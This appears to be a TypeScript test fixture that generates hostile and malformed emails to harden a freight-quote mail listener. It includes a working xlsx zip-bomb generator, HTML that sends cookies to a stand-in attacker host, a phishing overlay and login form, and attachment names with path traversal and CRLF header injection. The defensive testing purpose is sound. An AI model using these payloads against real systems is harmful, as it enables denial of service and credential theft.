import { randomBytes } from 'node:crypto';
import { strToU8, zipSync } from 'fflate';
import type { Scenario } from './factories/index.js';
import { typicalAnswer } from './factories/index.js';

/*
 * Issue 29 item 5: malicious and broken mail, as a corpus kept in the repository. Each message is built
 * here, from code (a 30 MB file is not committed), against two companies' quotes: `own` is the quote the
 * message answers, `other` a quote of another company. hostile-corpus.test.ts sends each one through the
 * inbound SMTP listener and checks where it ends.
 */

export type HostileMail = {
  /** pt-BR name of the case, as it is reported. */
  name: string;
  raw: Buffer;
};

const CRLF = '\r\n';

function encodedWord(text: string): string {
  return `=?utf-8?B?${Buffer.from(text, 'utf8').toString('base64')}?=`;
}

function base64Lines(content: Buffer): string {
  return (content.toString('base64').match(/.{1,76}/g) ?? []).join(CRLF);
}

/** Headers of a reply of `own`'s first carrier in its thread. */
function replyHeaders(own: Scenario, id: string, extra: string[] = []): string[] {
  const recipient = own.recipients[0]!;
  return [
    `From: Pricing <${own.carriers[0]!.email}>`,
    `To: ${own.replyTo(0)}`,
    `Subject: RE: ${own.quote.tituloEmail}`,
    `Message-ID: <${id}@hostil.example>`,
    ...(recipient.messageId ? [`In-Reply-To: ${recipient.messageId}`] : []),
    'Date: Thu, 03 Dec 2026 10:00:00 -0300',
    'MIME-Version: 1.0',
    ...extra,
  ];
}

function message(headers: string[], body: string | Buffer): Buffer {
  return Buffer.concat([Buffer.from(headers.join(CRLF) + CRLF + CRLF, 'utf8'), Buffer.from(body)]);
}

function attachmentPart(boundary: string, filenameHeader: string, content: Buffer, type: string): string {
  return [
    `--${boundary}`,
    `Content-Type: ${type}`,
    'Content-Transfer-Encoding: base64',
    `Content-Disposition: attachment; ${filenameHeader}`,
    '',
    base64Lines(content),
  ].join(CRLF);
}

/** An .xlsx whose sheet inflates to `megabytes` MB from a few hundred kB: a zip bomb a parser would open. */
export function xlsxBomb(megabytes: number): Buffer {
  const row = '<row><c t="inlineStr"><is><t>USD 2.950,00</t></is></c></row>';
  const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${row.repeat(
    Math.ceil((megabytes * 1024 * 1024) / row.length),
  )}</sheetData></worksheet>`;
  return Buffer.from(
    zipSync(
      {
        '[Content_Types].xml': strToU8(
          '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        ),
        '_rels/.rels': strToU8(
          '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        ),
        'xl/workbook.xml': strToU8(
          '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Tarifas" sheetId="1" r:id="rId1"/></sheets></workbook>',
        ),
        'xl/_rels/workbook.xml.rels': strToU8(
          '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        ),
        'xl/worksheets/sheet1.xml': [strToU8(sheet), { level: 9 }],
      },
      { level: 9 },
    ),
  );
}

export const HOSTILE_HTML = [
  '<html><head><style>.x{position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999}</style>',
  '<script>fetch("https://atacante.example/roubo?c="+document.cookie)</script></head>',
  '<body onload="alert(1)"><div class="x" style="position:fixed;inset:0;z-index:2147483647;background:#fff">',
  'Sua sessão expirou. <a href="javascript:alert(document.domain)">Entrar novamente</a></div>',
  '<p>Frete marítimo 40HC: USD 2.950,00</p>',
  '<img src="https://rastreio.atacante.example/pixel.gif?u=1" width="1" height="1">',
  '<img src="x" onerror="alert(2)">',
  '<iframe src="https://atacante.example/"></iframe>',
  '<form action="https://atacante.example/login"><input name="senha"></form>',
  '<a href="JaVaScRiPt:alert(3)">tarifas</a>',
  '</body></html>',
].join('\n');

/** The corpus: every kind of hostile or broken message issue 29 names. */
export function hostileCorpus(own: Scenario, other: Scenario): HostileMail[] {
  const answer = typicalAnswer({ frete40: 2950 });
  const corpus: HostileMail[] = [];

  {
    // NUL and invalid encodings in every header and part.
    const boundary = 'nul-boundary';
    const invalidUtf8 = Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xed, 0xa0, 0x80, 0xff]);
    const headers = replyHeaders(own, 'nul-em-tudo', [
      `Content-Type: multipart/mixed; boundary="${boundary}"`,
    ]).map((line) =>
      line.startsWith('From: ')
        ? `From: ${encodedWord('Pricing\u0000 Nulo')} <${own.carriers[0]!.email}>`
        : line.startsWith('Subject: ')
          ? `Subject: ${encodedWord(`RE: ${own.quote.tituloEmail} \u0000`)} =?utf-8?Q?inv=C3=28lido=ED=A0=80?=`
          : line,
    );
    const body = Buffer.concat([
      Buffer.from(
        [
          `--${boundary}`,
          'Content-Type: text/plain; charset=utf-8',
          'Content-Transfer-Encoding: base64',
          '',
          base64Lines(Buffer.concat([Buffer.from(`${answer}\u0000\n`, 'utf8'), invalidUtf8])),
          `--${boundary}`,
          'Content-Type: text/html; charset=utf-8',
          'Content-Transfer-Encoding: 8bit',
          '',
          '',
        ].join(CRLF),
        'utf8',
      ),
      Buffer.from('<p>Frete\u0000 40HC</p>', 'utf8'),
      invalidUtf8,
      Buffer.from(CRLF, 'utf8'),
      Buffer.from(
        [
          attachmentPart(
            boundary,
            `filename*=utf-8''tarifa%00nula%FF.txt`,
            Buffer.from('Frete\u0000 USD 2.950,00', 'utf8'),
            'text/plain',
          ),
          `--${boundary}--`,
          '',
        ].join(CRLF),
        'utf8',
      ),
    ]);
    corpus.push({
      name: 'NUL e codificação inválida em cabeçalhos e partes',
      raw: message([...headers, `X-Nulo: a\u0000b ${invalidUtf8.toString('latin1')}`], body),
    });
  }

  {
    // 1,000 nested multiparts, the answer in the innermost part.
    const depth = 1000;
    let body = ['Content-Type: text/plain; charset=utf-8', '', answer].join(CRLF);
    for (let level = depth; level > 0; level--) {
      body = [
        `Content-Type: multipart/mixed; boundary="n${level}"`,
        '',
        `--n${level}`,
        body,
        `--n${level}--`,
        '',
      ].join(CRLF);
    }
    const [head, ...rest] = body.split(`${CRLF}${CRLF}`);
    corpus.push({
      name: '1.000 multiparts aninhados',
      raw: message([...replyHeaders(own, 'aninhada'), head!], rest.join(`${CRLF}${CRLF}`)),
    });
  }

  {
    // A 30 MB message (under the listener's 35 MB, over what is parsed in full).
    const boundary = 'grande';
    const file = randomBytes(22 * 1024 * 1024);
    corpus.push({
      name: 'mensagem de 30 MB',
      raw: message(
        replyHeaders(own, 'grande-30mb', [`Content-Type: multipart/mixed; boundary="${boundary}"`]),
        [
          `--${boundary}`,
          'Content-Type: text/plain; charset=utf-8',
          '',
          answer,
          attachmentPart(boundary, 'filename="tabela.bin"', file, 'application/octet-stream'),
          `--${boundary}--`,
          '',
        ].join(CRLF),
      ),
    });
  }

  {
    // 500 attachments.
    const boundary = 'muitos';
    const parts = Array.from({ length: 500 }, (_, index) =>
      attachmentPart(
        boundary,
        `filename="anexo-${index + 1}.txt"`,
        Buffer.from(`Anexo ${index + 1}`),
        'text/plain',
      ),
    );
    corpus.push({
      name: '500 anexos',
      raw: message(
        replyHeaders(own, 'quinhentos-anexos', [`Content-Type: multipart/mixed; boundary="${boundary}"`]),
        [
          `--${boundary}`,
          'Content-Type: text/plain; charset=utf-8',
          '',
          answer,
          ...parts,
          `--${boundary}--`,
          '',
        ].join(CRLF),
      ),
    });
  }

  {
    // A zip bomb: a spreadsheet of 64 MB (over the reader's 50 MB) in a few hundred kB.
    const boundary = 'bomba';
    corpus.push({
      name: 'anexo bomba zip (planilha de 64 MB compactada)',
      raw: message(
        replyHeaders(own, 'bomba-zip', [`Content-Type: multipart/mixed; boundary="${boundary}"`]),
        [
          `--${boundary}`,
          'Content-Type: text/plain; charset=utf-8',
          '',
          'Prezados, segue nossa tarifa na planilha anexa.',
          attachmentPart(
            boundary,
            'filename="tarifa.xlsx"',
            xlsxBomb(64),
            'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
          ),
          `--${boundary}--`,
          '',
        ].join(CRLF),
      ),
    });
  }

  {
    // HTML with scripts, javascript: links, remote images and a CSS overlay.
    const boundary = 'html-hostil';
    corpus.push({
      name: 'HTML com scripts, links javascript:, imagens remotas e sobreposição CSS',
      raw: message(
        replyHeaders(own, 'html-hostil', [`Content-Type: multipart/alternative; boundary="${boundary}"`]),
        [
          `--${boundary}`,
          'Content-Type: text/plain; charset=utf-8',
          '',
          answer,
          `--${boundary}`,
          'Content-Type: text/html; charset=utf-8',
          '',
          HOSTILE_HTML,
          `--${boundary}--`,
          '',
        ].join(CRLF),
      ),
    });
  }

  {
    // Attachment names with ../, CRLF and 300 characters.
    const boundary = 'nomes';
    const crlfName = encodedWord('tarifa\r\nContent-Type: text/html\r\n\r\n<script>x</script>.txt');
    corpus.push({
      name: 'nomes de anexo com ../, CRLF e 300 caracteres',
      raw: message(
        replyHeaders(own, 'nomes-hostis', [`Content-Type: multipart/mixed; boundary="${boundary}"`]),
        [
          `--${boundary}`,
          'Content-Type: text/plain; charset=utf-8',
          '',
          answer,
          attachmentPart(
            boundary,
            'filename="../../../../etc/passwd"',
            Buffer.from('root:x:0:0'),
            'text/plain',
          ),
          attachmentPart(
            boundary,
            `filename="..\\..\\windows\\win.ini"`,
            Buffer.from('[fonts]'),
            'text/plain',
          ),
          attachmentPart(boundary, `filename="${crlfName}"`, Buffer.from('tarifa'), 'text/plain'),
          attachmentPart(
            boundary,
            `filename="${'a'.repeat(296)}.pdf"`,
            Buffer.from('%PDF-1.4'),
            'application/pdf',
          ),
          `--${boundary}--`,
          '',
        ].join(CRLF),
      ),
    });
  }

  {
    // A forged reply token, no thread, no quote code: nothing to match it with.
    const [local, domain] = own.replyTo(0).split('@');
    const forged = `${local!.split('+')[0]}+forjado0000000000000000@${domain}`;
    corpus.push({
      name: 'token de resposta forjado',
      raw: message(
        [
          `From: Desconhecido <alguem@forjador.example>`,
          `To: ${forged}`,
          'Subject: Proposta imperdível',
          'Message-ID: <token-forjado@hostil.example>',
          'Date: Thu, 03 Dec 2026 10:00:00 -0300',
          'MIME-Version: 1.0',
          'Content-Type: text/plain; charset=utf-8',
        ],
        answer,
      ),
    });
  }

  {
    // Another company's token, sent in a valid thread of `own`.
    const headers = replyHeaders(own, 'token-de-outra-empresa').map((line) =>
      line.startsWith('To: ') ? `To: ${own.replyTo(0)}, ${other.replyTo(0)}` : line,
    );
    corpus.push({
      name: 'token de outra empresa numa conversa válida',
      raw: message(
        [...headers, 'Content-Type: text/plain; charset=utf-8'],
        `${answer}\n\nResponder também a ${other.replyTo(0)}`,
      ),
    });
  }

  corpus.push({
    name: 'resposta automática (fora do escritório)',
    raw: message(
      replyHeaders(own, 'ausente', [
        'Auto-Submitted: auto-replied',
        'Content-Type: text/plain; charset=utf-8',
      ]).map((line) =>
        line.startsWith('Subject: ')
          ? `Subject: ${encodedWord('Resposta automática: Fora do escritório')}`
          : line,
      ),
      'Estou fora do escritório até 10/12 e sem acesso ao e-mail.',
    ),
  });

  {
    // A delivery status notification about the carrier's address.
    const boundary = 'dsn';
    const carrier = own.carriers[0]!.email;
    corpus.push({
      name: 'devolução (DSN de falha de entrega)',
      raw: message(
        [
          'From: Mail Delivery System <MAILER-DAEMON@mx.transportadora.example>',
          `To: ${own.replyTo(0)}`,
          'Subject: Undelivered Mail Returned to Sender',
          'Message-ID: <dsn-hostil@mx.transportadora.example>',
          'Date: Thu, 03 Dec 2026 10:00:00 -0300',
          'Auto-Submitted: auto-replied',
          'MIME-Version: 1.0',
          `Content-Type: multipart/report; report-type=delivery-status; boundary="${boundary}"`,
        ],
        [
          `--${boundary}`,
          'Content-Type: text/plain; charset=utf-8',
          '',
          `Não foi possível entregar a mensagem para ${carrier}.`,
          `--${boundary}`,
          'Content-Type: message/delivery-status',
          '',
          'Reporting-MTA: dns; mx.transportadora.example',
          '',
          `Final-Recipient: rfc822; ${carrier}`,
          'Action: failed',
          'Status: 5.1.1',
          'Diagnostic-Code: smtp; 550 5.1.1 user unknown',
          `--${boundary}`,
          'Content-Type: text/rfc822-headers',
          '',
          `From: cotacoes@importadora.com.br`,
          `To: ${carrier}`,
          `Subject: ${own.quote.tituloEmail}`,
          ...(own.recipients[0]!.messageId ? [`Message-ID: ${own.recipients[0]!.messageId}`] : []),
          `--${boundary}--`,
          '',
        ].join(CRLF),
      ),
    });
  }

  return corpus;
}
